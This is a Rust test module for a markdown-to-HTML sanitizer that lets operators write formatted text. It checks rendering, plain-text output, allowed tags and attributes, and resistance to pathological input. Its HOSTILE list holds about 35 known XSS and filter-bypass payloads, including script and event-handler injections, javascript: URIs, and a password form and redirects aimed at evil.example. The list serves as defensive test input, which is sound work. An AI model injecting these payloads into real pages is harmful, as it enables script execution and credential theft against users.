//! What operators may write, and what nobody may.

use proptest::prelude::*;

use super::*;

#[test]
fn what_operators_write_is_shown() {
    let check = |source: &str, expected: &str| assert_eq!(html(source).trim(), expected, "{source}");
    check("we **restart** it", "<p>we <strong>restart</strong> it</p>");
    check("one\ntwo", "<p>one<br />\ntwo</p>");
    check("# Cause", "<h4>Cause</h4>");
    check("### Cause", "<h6>Cause</h6>");
    check("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
    check("2. a", "<ol start=\"2\">\n<li>a</li>\n</ol>");
    check(
        "[help](https://help.example.org/?a=1&b=2)",
        "<p><a href=\"https://help.example.org/?a=1&amp;b=2\" rel=\"noopener nofollow ugc\">help</a></p>",
    );
    check(
        "<mail@example.org>",
        "<p><a href=\"mailto:mail@example.org\" rel=\"noopener nofollow ugc\">mail@example.org</a></p>",
    );
    check("![a drawing](https://example.org/x.png)", "<p>a drawing</p>");
    check("a < b & c", "<p>a &lt; b &amp; c</p>");
    check("~~no~~ `x<y`", "<p><del>no</del> <code>x&lt;y</code></p>");
}

#[test]
fn the_same_is_read_without_marks() {
    let check = |source: &str, expected: &str| assert_eq!(plain(source), expected, "{source}");
    check("we **restart** it\n\n\n\nnow", "we restart it\n\nnow");
    check("# Cause\ntext", "Cause\n\ntext");
    check("- a\n- b\n  - c\n\nend", "- a\n- b\n  - c\n\nend");
    check("3. a\n4. b", "3. a\n4. b");
    check("see [the help](https://help.example.org/)", "see the help (https://help.example.org/)");
    check("<https://help.example.org/>", "https://help.example.org/");
    check("[x](javascript:alert(1))", "x");
    check("![drawing](https://example.org/x.png)", "drawing");
    check("a\u{202e}b\u{7}c", "ab c");
    check("<b>x</b>", "<b>x</b>");
}

/// After OWASP's and html5sec's lists: what has got through filters before.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/operator?logout)",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png\" onerror=\"alert(1))",
    "![<script>alert(1)</script>](x)",
    "<javascript:alert(1)>",
    "# x {#id onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</p></div></main><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

/// The elements that may come out.
const TAGS: [&str; 22] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Every tag of the output must be one of ours, with no attribute but the two we write.
fn assert_harmless(source: &str) {
    let html = html(source);
    for piece in html.split('<').skip(1) {
        let tag = piece.split_once('>').unwrap_or_else(|| panic!("a tag ends: {html:?}")).0;
        let mut parts = tag.trim_start_matches('/').splitn(2, ' ');
        let (name, attributes) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
        assert!(TAGS.contains(&name), "{name:?} in {html:?}");
        let ours = matches!(attributes, "" | "/")
            || attributes.starts_with("start=\"")
            || (attributes == "rel=\"noopener nofollow ugc\"")
            || (attributes.ends_with("\" rel=\"noopener nofollow ugc\"")
                && SCHEMES.iter().any(|scheme| attributes.starts_with(&format!("href=\"{scheme}:")))
                && attributes.matches('"').count() == 4);
        assert!(ours, "{attributes:?} in {html:?}");
    }
}

#[test]
fn tables_and_code_have_neither_styles_nor_classes() {
    let check = |source: &str, expected: &str| assert_eq!(html(source).replace('\n', ""), expected, "{source}");
    let table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>";
    check("| a |\n|:-:|\n| b |", table);
    check("```rust\nx < y\n```", "<pre><code>x &lt; y</code></pre>");
    check("> [!NOTE]\n> x", "<blockquote><p>[!NOTE]<br />x</p></blockquote>");
}

#[test]
fn nothing_that_got_through_filters_before_gets_through_here() {
    HOSTILE.iter().for_each(|source| assert_harmless(source));
    let joined = HOSTILE.join("\n\n");
    assert_harmless(&joined);
    assert_harmless(&HOSTILE.join(" "));
}

#[test]
fn what_only_a_machine_would_write_is_read_in_no_time_and_little_memory() {
    for mark in [">", "- ", "* ", "[", "![", "**a ", "`", "<", "| ", "1. ", "  - x\n", "<!--", "a](", "&", "_a*"] {
        let source = mark.repeat(20_000 / mark.len());
        assert_harmless(&source);
        let _ = plain(&source);
    }
    let stairs: String = (0..190).map(|depth| format!("{}- x\n", " ".repeat(depth))).collect();
    assert_harmless(&stairs);
}

proptest! {
    #[test]
    fn no_text_becomes_more_than_text(source in "[<>&\"'`*_\\[\\]()!#:/a-c \\n=-]{0,120}") {
        assert_harmless(&source);
        let _ = plain(&source);
    }
}
